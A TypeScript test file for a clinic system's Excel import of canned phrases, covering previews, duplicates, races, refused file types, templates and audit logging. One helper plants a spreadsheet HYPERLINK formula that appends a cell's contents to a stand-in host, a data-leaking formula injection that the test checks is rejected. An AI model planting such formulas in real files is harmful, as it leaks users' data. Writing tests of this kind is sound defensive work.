import { randomUUID } from 'node:crypto'
import type { WordImportResult } from '@teleward/contract/snippets/import-endpoints.ts'
import type { Word } from '@teleward/contract/snippets/schema.ts'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Clinic, openClinic, people } from '../emr/fixture.ts'
import { sql } from '../platform/db/index.ts'
import { openXlsx } from '../platform/xlsx/read.ts'
import { type Cell, writeXlsx } from '../platform/xlsx/write.ts'

let clinic: Clinic
beforeAll(async () => {
  clinic = await openClinic()
})
afterAll(() => clinic?.stop())

const { lin, wang } = people
const TITLES = ['類別*', '代碼', '片語*', '備考']
const sheetOf = async (rows: readonly (readonly Cell[])[], titles: readonly string[] = TITLES) =>
  (await writeXlsx([{ name: 'sheet1', titles: true, rows: [titles, ...rows] }])).toString('base64')
const wish = (file: string, more: object = {}) => ({ importId: randomUUID(), fileName: '片語.xlsx', file, ...more })
const send = async (body: object, mid: number = lin) => clinic.post<WordImportResult>(mid, 'words/imports', body)
const list = async (type: string, mid: number = lin): Promise<Word[]> =>
  (await clinic.call<Word[]>(mid, 'GET', `words?type=${type}`)).data

const good: Cell[][] = [
  ['s', 'fever', '發燒 __ 天', '不讀'],
  ['主觀', null, '第一行\n第二行', null],
  ['Advice', 'water', '多喝水，{次數} 次', null],
  ['WD', null, '👨‍👩‍👧‍👦'.repeat(300), null],
  ['s', 'rare', '𠮷'.repeat(300), null],
]
const bad: [Cell[], string, string][] = [
  [[null, 'x1', '沒類別', null], 'type', 'FIELD_EMPTY'],
  [['memo?', 'x2', '怪類別', null], 'type', 'VALUE_INVALID'],
  [['s', 'x3', null, null], 'word', 'FIELD_EMPTY'],
  [['s', 'x4', '字'.repeat(301), null], 'word', 'PHRASE_TOO_LONG'],
  [['s', 'x5', '😀'.repeat(301), null], 'word', 'PHRASE_TOO_LONG'],
  [['s', 'FEVER', '同代碼', null], 'code', 'DUPLICATE'],
  [['s', 'x6', '發燒 __ 天', null], 'word', 'DUPLICATE'],
  [['s', 'two words', '代碼有空白', null], 'code', 'VALUE_INVALID'],
  [['s', 'c'.repeat(21), '代碼太長', null], 'code', 'VALUE_INVALID'],
]

/** The same workbook, with a formula where `from` stands in it. */
async function withFormula(rows: Cell[][], from: string): Promise<string> {
  const parts = unzipSync(Buffer.from(await sheetOf(rows), 'base64'))
  const name = 'xl/worksheets/sheet1.xml'
  const xml = strFromU8(parts[name] as Uint8Array)
  const swapped = xml.replace(
    new RegExp(`<c r="(\\w+)"[^>]*>(?:(?!</c>).)*${from}.*?</c>`),
    '<c r="$1" t="str"><f>HYPERLINK("http://x/"&amp;A1,"'.concat(from, '")</f><v>', from, '</v></c>'),
  )
  expect(swapped).not.toBe(xml)
  return Buffer.from(zipSync({ ...parts, [name]: strToU8(swapped) })).toString('base64')
}

describe('an import of canned words', () => {
  it('[WORD-02~] previews: each bad row is named with its place and in words, and nothing is kept', async () => {
    const { code, data } = await send(wish(await sheetOf([...good, ...bad.map(([row]) => row)])))
    expect([code, data.state, data.total, data.good, data.bad, data.imported]).toEqual(['OK', 'preview', 14, 5, 9, 0])
    expect(data.unknown).toEqual(['備考'])
    expect(data.rows.slice(0, 5).map(({ said, state }) => [said.type, said.code, state])).toEqual([
      ['s', 'fever', 'good'],
      ['s', undefined, 'good'],
      ['memop', 'water', 'good'],
      ['wd', undefined, 'good'],
      ['s', 'rare', 'good'],
    ])
    expect(data.rows.slice(5).map(({ faults }) => faults.map(({ path, code: said }) => [path, said]))).toEqual(
      bad.map(([, path, said]) => [[path, said]]),
    )
    expect(data.rows[5]).toMatchObject({ number: 7, state: 'bad', problem: '類別 A7：此欄位不可空白' })
    expect(await list('s')).toEqual([])
  })

  it('[WORD-02~] puts the good rows in when told so, once, in their order behind the words that are there', async () => {
    await clinic.post(lin, 'words', { type: 's', word: '先來的', code: 'first' })
    const body = wish(await sheetOf([...good, ...bad.map(([row]) => row)]), { commit: true })
    const twice = await Promise.all([send(body), send(body)])
    for (const { data } of twice) expect([data.state, data.imported, data.bad]).toEqual(['done', 5, 9])
    expect(await list('s')).toMatchObject([
      { word: '先來的' },
      { word: '發燒 __ 天', code: 'fever' },
      { word: '第一行\n第二行', code: null },
      { code: 'rare' },
    ])
    // Asked for again, as the result is downloaded, the job says what it came to.
    const later = await send({ ...body, commit: false })
    expect(later.data.rows.map(({ state }) => state)).toEqual([
      ...good.map(() => 'imported'),
      ...bad.map(() => 'skipped'),
    ])
    expect((await send({ ...body, file: await sheetOf(good) })).code).toBe('DUPLICATE')
    // Another job with the same file: all is there already, and none is doubled.
    const again = await send(wish(body.file, { commit: true }))
    expect([again.data.imported, await list('s').then(({ length }) => length)]).toEqual([0, 4])
    expect(again.data.rows[0]?.faults.map(({ path, code }) => [path, code])).toEqual([
      ['code', 'PHRASE_DUPLICATE'],
      ['word', 'PHRASE_DUPLICATE'],
    ])
    // An order of a type still takes all of them.
    const order = (await list('s')).map(({ id }) => id).reverse()
    expect((await clinic.call<Word[]>(lin, 'PUT', 'words', { type: 's', order })).data.map(({ id }) => id)).toEqual(
      order,
    )
  })

  it('[WORD-02~] a code that is made elsewhere between preview and import is left out, or keeps the other out', async () => {
    const file = await sheetOf([['o', 'race', '匯入的', null]])
    const preview = await send(wish(file))
    expect(preview.data.good).toBe(1)
    const [made, imported] = await Promise.all([
      clinic.post<Word>(lin, 'words', { type: 'o', word: '同時加的', code: 'RACE' }),
      send(wish(file, { commit: true })),
    ])
    const won = imported.data.imported
    expect([made.status, won]).toEqual(won ? [409, 1] : [200, 0])
    expect((await list('o')).filter(({ code }) => code?.toLowerCase() === 'race')).toHaveLength(1)
    // Another person's words are another person's: the same code is free there.
    expect((await send(wish(file, { commit: true }), wang)).data.imported).toBe(1)
  })

  it('[WORD-02~] takes what a formula shows for nothing said', async () => {
    const file = await withFormula([['a', null, 'CLICKME', null]], 'CLICKME')
    const { data } = await send(wish(file, { commit: true }))
    expect(data.rows.map(({ faults }) => faults.map(({ path, code }) => [path, code]))).toEqual([
      [['word', 'CELL_FORMULA']],
    ])
    expect(await list('a')).toEqual([])
    // What only looks like one is text.
    expect((await send(wish(await sheetOf([['a', null, '=1+1', null]]), { commit: true }))).data.imported).toBe(1)
    expect((await list('a')).map(({ word }) => word)).toEqual(['=1+1'])
  })

  const refused: [what: string, file: () => Promise<string>, status: number, code: string][] = [
    ['a csv renamed', async () => Buffer.from('類別,代碼,片語\ns,x,y').toString('base64'), 415, 'EXCEL_ONLY'],
    ['an old xls', async () => Buffer.from('d0cf11e0a1b11ae1', 'hex').toString('base64'), 415, 'EXCEL_ONLY'],
    ['nothing', async () => '', 415, 'EXCEL_ONLY'],
    [
      'a zip of something else',
      async () => Buffer.from(zipSync({ x: strToU8('y') })).toString('base64'),
      400,
      'EXCEL_UNREADABLE',
    ],
    ['half a file', async () => (await sheetOf(good)).slice(0, 400), 400, 'EXCEL_UNREADABLE'],
    ['other titles', () => sheetOf([], ['帳號', '姓名']), 400, 'EXCEL_UNREADABLE'],
    [
      '501 rows',
      () => sheetOf(Array.from({ length: 501 }, (_, at) => ['s', null, `第 ${at} 句`])),
      413,
      'IMPORT_TOO_MANY_ROWS',
    ],
    ['more than a megabyte', async () => Buffer.alloc(1024 * 1024 + 1).toString('base64'), 413, 'TOO_LARGE'],
  ]
  it.each(refused)('[WORD-02~] refuses %s', async (_what, file, status, code) => {
    expect(await send(wish(await file()))).toMatchObject({ status, code })
  })

  it('[WORD-02~] has a template that is read by its own titles, in each language', async () => {
    for (const [lang, title] of [
      ['zh-TW', '片語*'],
      ['zh-CN', '短语*'],
      ['en', 'Phrase*'],
    ] as const) {
      const answer = await clinic.http.app.inject({
        method: 'GET',
        url: '/his/api/words/imports/template',
        headers: { authorization: `Bearer ${lin}`, 'accept-language': lang },
      })
      const [sheet, info] = await openXlsx(answer.rawPayload)
      const [head] = (await sheet?.rows()) ?? []
      expect(head?.cells.map((cell) => cell?.text)).toContain(title)
      expect(await info?.rows()).toHaveLength(4)
      const { data } = await send(
        wish(await sheetOf([['p', null, `句 ${lang}`]], head?.cells.map((cell) => cell?.text ?? '') ?? [])),
      )
      // The columns' order is the template's: type, code, phrase.
      expect([data.good, data.bad]).toEqual([1, 0])
    }
  })

  it('[WORD-02~] keeps a job to whoever began it, and is kept in the log without the phrases', async () => {
    const body = wish(await sheetOf([['p', null, '只給我']]), { commit: true })
    expect((await send(body)).data.imported).toBe(1)
    expect(await send(body, wang)).toMatchObject({ status: 409, code: 'DUPLICATE' })
    expect(await list('p', wang)).toEqual([])
    const rows = await clinic.data.db.system.read(sql<{ detail: object }>`
      select detail from audit_log where action = 'POST /his/api/words/imports' and target_id = ${body.importId}`)
    expect(rows.map(({ detail }) => detail)).toContainEqual({ state: 'done', total: 1, imported: 1, bad: 0 })
    expect(JSON.stringify(rows)).not.toContain('只給我')
  })
})
